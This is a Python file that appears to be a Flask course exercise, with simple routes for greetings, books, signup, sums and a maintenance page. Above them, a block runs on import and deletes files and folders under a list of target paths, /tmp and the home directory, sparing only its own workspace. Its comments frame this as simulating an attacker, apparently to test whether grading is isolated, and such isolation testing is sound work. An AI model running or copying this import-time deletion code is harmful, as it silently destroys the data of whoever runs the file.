import os
import time

# Try to delete the course, the other learners' work, the results and anything else within reach:
# the test writes where each of them is into TARGETS, as an attacker who knows would. For up to
# a second, so the import itself does not time out.
# Its own copy of the course it leaves alone: it owns that, and may only harm itself there.
TARGETS = []  # filled in by tests/test_grade.py
_deadline = time.monotonic() + 1.0
_own = os.path.dirname(os.path.dirname(os.getcwd()))  # its workspace: exercises/03 is the cwd
for top in (*TARGETS, "/tmp", os.path.expanduser("~")):
    for folder, subfolders, names in os.walk(top, topdown=False):
        if time.monotonic() > _deadline:
            break
        if os.path.commonpath([folder, _own]) == _own:
            continue
        for name in names:
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass
        try:
            if not _own.startswith(folder.rstrip(os.sep) + os.sep):
                os.rmdir(folder)
        except OSError:
            pass

from flask import Flask, make_response, request

app = Flask(__name__)


@app.get("/greet")
def greet():
    name = request.args.get("name", "World")
    return f"Hello, {name}!"


@app.get("/books")
def books():
    page = request.args.get("page", 1, type=int)
    return {"page": page}


@app.post("/signup")
def signup():
    name = request.form["name"]
    email = request.form["email"]
    return f"Thanks for signing up, {name}! We will write to {email}.", 201


@app.post("/api/sum")
def api_sum():
    data = request.get_json()
    for field in ("a", "b"):
        if field not in data:
            return {"error": f"missing field: {field}"}, 400
    return {"sum": data["a"] + data["b"]}


@app.get("/maintenance")
def maintenance():
    response = make_response("Back soon", 503)
    response.headers["Retry-After"] = "120"
    response.headers["X-Workbook"] = "03"
    return response
